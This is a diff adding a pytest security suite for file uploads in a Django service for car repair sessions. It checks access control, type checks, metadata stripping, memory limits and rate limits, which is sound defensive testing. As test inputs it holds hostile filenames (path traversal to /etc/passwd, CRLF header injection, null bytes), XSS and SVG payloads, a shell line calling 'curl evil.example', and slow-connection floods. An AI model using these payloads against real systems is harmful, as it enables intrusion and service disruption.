@@ -1,0 +1,296 @@
+"""Files as a way in: other people's, of another type, size or name than they pretend."""
+
+import socket
+import time
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any
+from uuid import uuid4
+
+import pytest
+from django.test import Client
+
+from autodoctor.accounts.models import User
+from autodoctor.files.models import StoredFile
+from autodoctor.files.tests import samples
+from autodoctor.files.tests.samples import PDF, film, photo, position_in, upload
+from autodoctor.room.tests.live_session import live_session
+from autodoctor.sessions.models import SessionEvent
+from autodoctor.sessions.states import State
+from tests.fakes import scene
+from tests.fakes.server import Server
+from tests.faults.test_files import MEGABYTE, address, form, head, incoming, listed, share, stored, until
+
+ClientOf = Callable[[User], Client]
+HOSTILE_NAMES = [
+    "../../../etc/passwd.pdf",
+    "..\\..\\boot.pdf",
+    "a\x00b.pdf",
+    "a\r\nX-Evil: yes.pdf",
+    "invoice\u202efdp.html",
+    '"><script>alert(1)</script>.pdf',
+    "x" * 5_000 + ".pdf",
+    "",
+    ".",
+    "\ud83d\ude00.pdf",
+]
+
+
+@pytest.fixture
+def their_file(customer: User, mechanic: User, client_of: ClientOf) -> tuple[str, str]:
+    """The session and the file of two other people."""
+    session = live_session(customer, mechanic)
+    made = client_of(customer).post(f"/api/sessions/{session.id}/files", {"file": upload("a.jpg", photo())})
+    return str(session.id), made.json()["id"]
+
+
+def answers(client: Client, session_id: str, file_id: str) -> list[tuple[int, str]]:
+    """All that a person sees at every address of a file, with both ids blanked."""
+    api, page = f"/api/sessions/{session_id}/files", f"/sessions/{session_id}/files/{file_id}/"
+    asked = [
+        client.get(api),
+        client.post(api, {"file": upload("a.pdf", PDF)}),
+        client.delete(f"{api}/{file_id}"),
+        client.get(page),
+        client.get(page + "thumbnail/"),
+        client.get(page + "?download=1"),
+    ]
+    seen = [(one.status_code, one.content.decode().replace(session_id, "S").replace(file_id, "F")) for one in asked]
+    return [(status, body if status < 404 or body.startswith("{") else "page") for status, body in seen]
+
+
+def test_other_peoples_files_are_the_same_404_as_none(
+    their_file: tuple[str, str], stranger: User, mechanic2: User, client_of: ClientOf
+) -> None:
+    for person in (stranger, mechanic2):
+        theirs = answers(client_of(person), *their_file)
+        assert theirs == answers(client_of(person), str(uuid4()), str(uuid4()))
+        assert {status for status, _ in theirs} == {404}
+    assert StoredFile.objects.count() == 1
+
+
+def test_a_file_is_reached_through_its_own_session_only(
+    their_file: tuple[str, str], stranger: User, mechanic2: User, client_of: ClientOf
+) -> None:
+    own = live_session(stranger, mechanic2)
+    client = client_of(stranger)
+    assert client.get(f"/sessions/{own.id}/files/{their_file[1]}/").status_code == 404
+    assert client.delete(f"/api/sessions/{own.id}/files/{their_file[1]}").status_code == 404
+    assert StoredFile.objects.filter(removed_at=None).count() == 1
+
+
+@pytest.mark.parametrize("state", [State.DRAFT, State.COMPLETED, State.CANCELLED, State.EXPIRED])
+def test_nothing_is_shared_before_the_payment_or_after_the_end(
+    customer: User, mechanic: User, client_of: ClientOf, state: State
+) -> None:
+    session = live_session(customer, None if state == State.DRAFT else mechanic, state=state)
+    refused = client_of(customer).post(f"/api/sessions/{session.id}/files", {"file": upload("a.pdf", PDF)})
+    assert (refused.status_code, refused.json()["error"]) == (409, "session_closed")
+    assert not StoredFile.objects.exists()
+    assert not SessionEvent.objects.exists()
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_a_name_reaches_no_path_and_breaks_no_header(server: Server, name: str) -> None:
+    talk = scene.stage(server)
+    client = server.client(talk.customer)
+    disposition = f'form-data; name="file"; filename="{name}"'.encode("utf-8", "surrogatepass")
+    body = b"--b\r\nContent-Disposition: " + disposition + b"\r\n\r\n" + PDF + b"\r\n--b--\r\n"
+    answer = client.post(address(talk), content=body, headers={"Content-Type": "multipart/form-data; boundary=b"})
+    assert answer.status_code in {201, 400, 422}, answer.text
+    if answer.status_code == 201:
+        made = answer.json()
+        assert made["name"].endswith(".pdf")
+        assert not set(made["name"]) & set('/\\<>"\r\n\x00\u202e')
+        served = client.get(made["url"])
+        assert served.content == PDF
+        assert served.headers["Content-Disposition"].startswith("attachment; filename")
+        assert "X-Evil" not in served.headers
+    assert all(len(path.name) == 32 for path in stored(server))
+    assert not incoming(server)
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("photo.jpg", b"<!DOCTYPE html><script>alert(document.domain)</script>"),
+        ("photo.jpg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+        ("photo.jpg", b"#!/bin/sh\ncurl evil.example"),
+        ("notes.txt", b"<html><script>alert(1)</script>"),
+    ],
+)
+def test_pages_drawings_and_scripts_are_refused(server: Server, name: str, content: bytes) -> None:
+    refused = share(scene.stage(server), content, name)
+    assert (refused.status_code, refused.json()["error"]) == (415, "wrong_type")
+
+
+def test_polyglots_are_inert(server: Server) -> None:
+    """A picture with a page behind it loses the page; anything else is never shown as one."""
+    talk, payload = scene.stage(server), b"<script>alert(document.domain)</script>"
+    client = server.client(talk.mechanic)
+    picture = share(talk, photo() + payload, "a.html").json()
+    for url in (picture["url"], picture["thumbnail_url"]):
+        served = client.get(url)
+        assert payload not in served.content
+        assert served.headers["Content-Type"] == "image/jpeg"
+    for name, content in (("a.html", PDF + payload), ("a.html", b"notes\n" + payload), ("a.svg", film() + payload)):
+        answer = share(talk, content, name)
+        if answer.status_code == 415:
+            continue
+        served = client.get(answer.json()["url"])
+        assert not answer.json()["name"].endswith((".html", ".svg"))
+        assert not served.headers["Content-Type"].startswith(("text/html", "image/svg"))
+        assert served.headers["Content-Disposition"].startswith("attachment")
+        assert served.headers["X-Content-Type-Options"] == "nosniff"
+        assert "sandbox" in served.headers["Content-Security-Policy"]
+
+
+def test_a_position_is_in_no_copy_that_anybody_gets(server: Server) -> None:
+    talk = scene.stage(server)
+    content = photo("HEIF")
+    assert position_in(content)
+    made = share(talk, content, "IMG_0001.HEIC").json()
+    client = server.client(talk.mechanic)
+    for url in (made["url"], made["thumbnail_url"]):
+        assert not position_in(client.get(url).content)
+    clip = share(talk, film(b"qt  ", position="+52.5200+013.4050/"), "clip.mov").json()
+    assert b"+52.52" not in client.get(clip["url"]).content
+    assert not any(b"+52.52" in path.read_bytes() for path in stored(server))
+
+
+def resident(server: Server, what: str = "VmRSS") -> int:
+    """MB."""
+    lines = Path(f"/proc/{server.pid}/status").read_text().splitlines()
+    return next(int(line.split()[1]) for line in lines if line.startswith(what)) // 1024
+
+
+def test_bombs_leave_the_memory_flat(start_server: Any) -> None:
+    server = start_server()
+    talk = scene.stage(server)
+    share(talk, photo(), "a.jpg")
+    before = resident(server)
+    bombs = [
+        samples.png_claiming(50_000, 50_000),
+        samples.gif_claiming(65_535, 65_535),
+        samples.animation(frames=300, size=(1000, 1000)),
+        samples.many_tiles(),
+    ]
+    for bomb in bombs * 2:
+        refused = share(talk, bomb, "a.png")
+        assert (refused.status_code, refused.json()["error"]) == (415, "wrong_type")
+    assert resident(server, "VmHWM") - before < 32
+    assert len(listed(talk)) == 1
+
+
+def test_uploads_and_downloads_are_never_whole_in_memory(start_server: Any) -> None:
+    server = start_server()
+    talk = scene.stage(server)
+    content = film(filling=9 * MEGABYTE)
+    urls = [share(talk, content).json()["url"]]
+    server.client(talk.mechanic).get(urls[0])
+    before = resident(server)
+    with ThreadPoolExecutor(8) as pool:
+        made = list(pool.map(lambda _: share(talk, content), range(16)))
+        assert {answer.status_code for answer in made} == {201}
+        clients = [server.client(talk.mechanic) for _ in made]
+        got = list(pool.map(lambda pair: pair[0].get(pair[1].json()["url"]), zip(clients, made, strict=True)))
+    assert {answer.content == content for answer in got} == {True}
+    assert resident(server, "VmHWM") - before <= 32
+
+
+def test_a_slow_reader_costs_a_piece_and_not_a_file(start_server: Any) -> None:
+    server = start_server()
+    talk = scene.stage(server)
+    url = share(talk, film(filling=9 * MEGABYTE)).json()["url"]
+    before = resident(server)
+    readers = [socket.create_connection(("localhost", server.port)) for _ in range(20)]
+    try:
+        for reader in readers:
+            reader.sendall(f"GET {url} HTTP/1.1\r\nHost: localhost:{server.port}\r\n\r\n".encode())
+        assert all(reader.recv(100).startswith(b"HTTP/1.1 200") for reader in readers)
+        assert share(talk, PDF, "a.pdf").status_code == 201
+        assert resident(server) - before <= 32
+    finally:
+        for reader in readers:
+            reader.close()
+
+
+def test_more_than_ten_megabytes_are_refused_with_the_limit(server: Server) -> None:
+    talk = scene.stage(server)
+    for size in (10 * MEGABYTE + 1, 30 * MEGABYTE):
+        refused = share(talk, film(filling=size))
+        assert (refused.status_code, refused.json()["error"]) == (413, "too_large")
+        assert "10 MB" in refused.json()["detail"]
+    assert not listed(talk)
+    assert not incoming(server)
+
+
+def test_nobody_keeps_anything_here_who_may_not(server: Server) -> None:
+    """What a stranger sends is not even written down while it arrives."""
+    talk, other = scene.stage(server), scene.stage(server)
+    client, body = server.client(other.customer), form(film(filling=4 * MEGABYTE))
+    before = stored(server)
+    with socket.create_connection(("localhost", server.port)) as connection:
+        connection.sendall(head(talk, len(body), client) + body[: len(body) // 2])
+        time.sleep(0.3)
+        assert not incoming(server)
+        connection.sendall(body[len(body) // 2 :])
+        assert connection.recv(20).startswith(b"HTTP/1.1 404")
+    assert server.client().post(address(talk), files={"file": ("a.pdf", PDF)}).status_code == 401
+    assert stored(server) == before
+
+
+def test_a_crowd_of_drips_disturbs_nobody(server: Server) -> None:
+    talk = scene.stage(server)
+    client = server.client(talk.customer)
+    drips = [socket.create_connection(("localhost", server.port)) for _ in range(8)]
+    try:
+        for drip in drips:
+            drip.sendall(head(talk, 5 * MEGABYTE, client) + form(b"")[:100])
+        until(lambda: refused_at_once(talk))
+        assert share(talk, PDF, "a.pdf", talk.mechanic).status_code == 201
+    finally:
+        for drip in drips:
+            drip.close()
+    until(lambda: share(talk, PDF, "a.pdf").status_code == 201)
+
+
+def refused_at_once(talk: Any) -> bool:
+    """One person sends a few at once, and no more."""
+    answer = share(talk, PDF, "a.pdf")
+    return bool(answer.status_code == 429 and answer.json()["error"] == "too_fast")
+
+
+def test_fifty_and_no_more(server: Server) -> None:
+    talk = scene.stage(server)
+    with ThreadPoolExecutor(6) as pool:
+        found = list(pool.map(lambda _: share(talk, b"a small note\n", "a.txt").status_code, range(60)))
+    assert sorted(set(found)) == [201, 409]
+    assert found.count(201) == len(listed(talk)) == 50
+
+
+def test_malformed_forms_are_answered(server: Server) -> None:
+    talk = scene.stage(server)
+    client = server.client(talk.customer)
+    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n' + PDF
+    bodies = [
+        *(b"", b"--b--\r\n", b"nothing", part, part + b"\r\n" + part + b"\r\n--b--\r\n", b"--b\r\n" + b"x" * 9_000),
+        b'--b\r\nContent-Disposition: form-data; name="client_id"\r\n\r\n' + b"9" * 5_000 + b"\r\n--b--\r\n",
+        b"".join(b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n' for _ in range(50)) + b"--b--\r\n",
+    ]
+    for body in bodies:
+        for kind in ("multipart/form-data; boundary=b", "multipart/form-data", "multipart/form-data; boundary="):
+            answer = client.post(address(talk), content=body, headers={"Content-Type": kind})
+            assert answer.status_code in {400, 422}, (body[:80], kind, answer.text)
+            assert answer.json()["detail"]
+    assert not incoming(server)
+    assert not listed(talk)
+
+
+def test_no_seal_stands_in_the_log(server: Server) -> None:
+    talk = scene.stage(server)
+    url = share(talk, PDF, "a.pdf").json()["url"]
+    server.client(talk.mechanic).get(url)
+    assert url.partition("?")[0] in server.log()
+    assert "seal=" not in server.log()
